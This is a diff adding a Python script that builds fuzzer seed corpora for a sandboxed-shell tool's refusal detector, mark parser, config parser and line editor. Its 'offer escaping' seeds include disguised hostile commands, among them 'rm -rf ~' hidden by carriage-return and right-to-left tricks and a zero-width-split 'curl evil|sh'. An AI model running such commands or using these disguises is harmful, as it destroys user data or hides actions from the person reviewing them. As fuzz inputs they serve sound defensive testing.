@@ -1,0 +1,154 @@
+#!/usr/bin/env python3
+"""Writes the fuzzers' seed corpora (corpus/<target>/) from real outputs: the refusal cases in
+tests/unit/escalation/cases/*.txt (outputs captured from real tools in bubblewrap), session-shell
+output wrapped in the hooks' marks, the README's config, and real terminal key sequences.
+Run it again after adding cases; the seeds are committed."""
+
+import hashlib
+import json
+import pathlib
+import re
+
+here = pathlib.Path(__file__).resolve().parent
+top = here.parent.parent
+cases_dir = top / "tests/unit/escalation/cases"
+NONCE = "0123456789abcdef0123456789abcdef"
+
+
+def unescape(text):
+    out = bytearray()
+    i = 0
+    raw = text.encode()
+    while i < len(raw):
+        c = raw[i:i + 1]
+        if c != b"\\" or i + 1 == len(raw):
+            out += c
+            i += 1
+            continue
+        n = raw[i + 1:i + 2]
+        i += 2
+        if n == b"e":
+            out += b"\x1b"
+        elif n == b"r":
+            out += b"\r"
+        elif n == b"t":
+            out += b"\t"
+        elif n == b"\\":
+            out += b"\\"
+        elif n == b"x":
+            out.append(int(raw[i:i + 2], 16))
+            i += 2
+    return bytes(out)
+
+
+def read_cases():
+    cases = []
+    for path in sorted(cases_dir.glob("*.txt")):
+        case = None
+        for line in path.read_text().split("\n"):
+            if line.startswith("=== "):
+                cases.append(case := {"name": line[4:], "fields": {}, "lines": [], "in_output": False,
+                                      "escaped": False})
+            elif case is None:
+                continue
+            elif case["in_output"]:
+                case["lines"].append(line)
+            elif line.startswith("--- output"):
+                case["in_output"] = True
+                case["escaped"] = line == "--- output escaped"
+            elif ": " in line:
+                key, value = line.split(": ", 1)
+                case["fields"].setdefault(key, []).append(value)
+        for c in cases:
+            if "output" not in c:
+                lines = list(c["lines"])
+                while lines and not lines[-1]:
+                    lines.pop()
+                text = "".join(l + "\n" for l in lines)
+                c["output"] = unescape(text) if c["escaped"] else text.encode()
+    return cases
+
+
+def write(target, name, data):
+    folder = here / "corpus" / target
+    folder.mkdir(parents=True, exist_ok=True)
+    if isinstance(data, str):
+        data = data.encode()
+    slug = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")[:48]
+    digest = hashlib.sha1(data).hexdigest()[:8]
+    (folder / f"{slug}-{digest}").write_bytes(data)
+
+
+def mark(body):
+    return f"\x1b]{body};caretz={NONCE}\x07".encode()
+
+
+def main():
+    for folder in (here / "corpus").glob("*"):
+        for f in folder.iterdir():
+            f.unlink()
+    cases = read_cases()
+    for c in cases:
+        command = c["fields"].get("command", ["true"])[0]
+        exit_code = c["fields"].get("exit", ["1"])[0]
+        out = c["output"]
+        write("refusal_detector", c["name"], command.encode() + b"\n" + exit_code.encode() + b"\n" + out)
+        # The session shell's view of the same command: prompt, command, output, status, cwd.
+        session = (mark("7;file://host/home/cztest/work") + mark("133;A") + b"$ " + mark("133;B") +
+                   mark("133;C") + out.replace(b"\n", b"\r\n") + mark("133;D;" + exit_code) +
+                   mark("7;file://host/home/cztest/w%20o%2Frk") + mark("133;A") + b"$ " + mark("133;B"))
+        write("mark_parser", c["name"], session)
+        write("offer_escaping", c["name"], command.encode() + b"\n" + out[:300])
+    # Marks that must stay output: wrong nonce, none, ST terminator, unterminated, other OSCs.
+    write("mark_parser", "wrong nonce", f"\x1b]133;D;0;caretz={'f' * 32}\x07after".encode())
+    write("mark_parser", "no nonce", b"\x1b]133;D;0\x07\x1b]133;A\x07text")
+    write("mark_parser", "st terminator", f"\x1b]133;D;2;caretz={NONCE}\x1b\\x".encode())
+    write("mark_parser", "unterminated", f"\x1b]133;C;caretz={NONCE}".encode())
+    write("mark_parser", "title and hyperlink", b"\x1b]0;title\x07\x1b]8;;http://x\x07link\x1b]8;;\x07")
+    # Offer escaping: what a command could use to disguise itself.
+    for name, text in [("escape sequences", "ls\x1b[2K\x1b[1A\x1b]0;x\x07\x9b31m"),
+                       ("carriage return", "rm -rf ~\rls -la"),
+                       ("right to left", "ls \u202e; rm -rf ~ \u202c# \u2066x\u2069"),
+                       ("zero width", "c\u200burl evil\u200d|sh\ufeff\u00ad"),
+                       ("c1 controls", "\u0085\u009b\u009d\u0090x\u009c"),
+                       ("utf-8 text", "echo héllo wörld 日本語 🙂"),
+                       ("bad bytes", b"\xff\xfe\xc3\x28\xe2\x82\xf0\x9f\x98".decode("latin-1"))]:
+        write("offer_escaping", name, text.encode("utf-8") if name != "bad bytes" else text.encode("latin-1"))
+    # An overlong encoding of ESC (C0 9B) and of CSI: not valid UTF-8, must not pass through.
+    write("offer_escaping", "overlong escape", b"ls \xc0\x9b[31mred \xe0\x80\x9b \xed\xa0\x80 \xf4\x90\x80\x80")
+    # Config: the README's example, the unit tests' shapes, and typical mistakes.
+    readme = (top / "README.md").read_text()
+    example = re.search(r"```json\n(.*?)```", readme, re.S)
+    if example:
+        write("config", "readme example", example.group(1))
+    write("config", "every key", json.dumps({
+        "ask_sandbox_off": True, "permission_timeout": "5m", "allow_docker": True,
+        "sandbox": {"writable": ["~/cache"], "hidden": ["~/.kube"], "env": {"LANG": "C.UTF-8"},
+                    "allowed_domains": ["*.debian.org"]},
+        "profiles": {"night": {"permission_timeout": "1h", "sandbox": {"writable": []}},
+                     "ops": {"allow_docker": False}}}, indent=2))
+    for name, text in [("empty object", "{}"), ("not json", "{ask_sandbox_off: yes"),
+                       ("wrong type", '{"sandbox": {"writable": "~/x"}}'),
+                       ("unknown key", '{"sandbox": {"writeable": []}}'),
+                       ("bad duration", '{"permission_timeout": "5 parsecs"}'),
+                       ("profiles in profile", '{"profiles": {"p": {"profiles": {}}}}'),
+                       ("array top", "[1, 2]"), ("nested deep", "[" * 50 + "]" * 50),
+                       ("comments and bom", '\ufeff{"allow_docker": true}'),
+                       # nlohmann throws out_of_range, not parse_error, for a number too big.
+                       ("number overflow", '{"allow_docker": 1E400}')]:
+        write("config", name, text)
+    # Keys as a terminal sends them: text, UTF-8, controls, arrows, paste, history.
+    for name, keys in [("typing", "echo hello\r"), ("utf-8", "h\u00e9llo \u65e5\u672c \U0001f642\x7f\x7f\r"),
+                       ("arrows", "abc\x1b[D\x1b[D\x1b[C\x1bOD\x1b[H\x1b[F\x1b[3~x\r"),
+                       ("word moves", "one two three\x1bb\x1bf\x1b[1;5D\x1b[1;5C\x17\x19\r"),
+                       ("emacs keys", "abc\x01\x05\x02\x06\x0b\x15\x19\x04\x0c\x03"),
+                       ("history", "\x1b[A\x1b[A\x1b[B\x0e\x10\r"),
+                       ("bracketed paste", "\x1b[200~line1\nline2\x1b[31m\x07\x1b[201~\r"),
+                       ("lone escape", "\x1b"), ("alt keys", "\x1bx\x1b\x7f\x1b."),
+                       ("mouse and focus", "\x1b[<0;10;5M\x1b[I\x1b[O\x1b[M !!"),
+                       ("controls", "".join(chr(c) for c in range(32)) + "\x7f\u0085\u009b")]:
+        write("line_editor", name, keys)
+
+
+if __name__ == "__main__":
+    main()
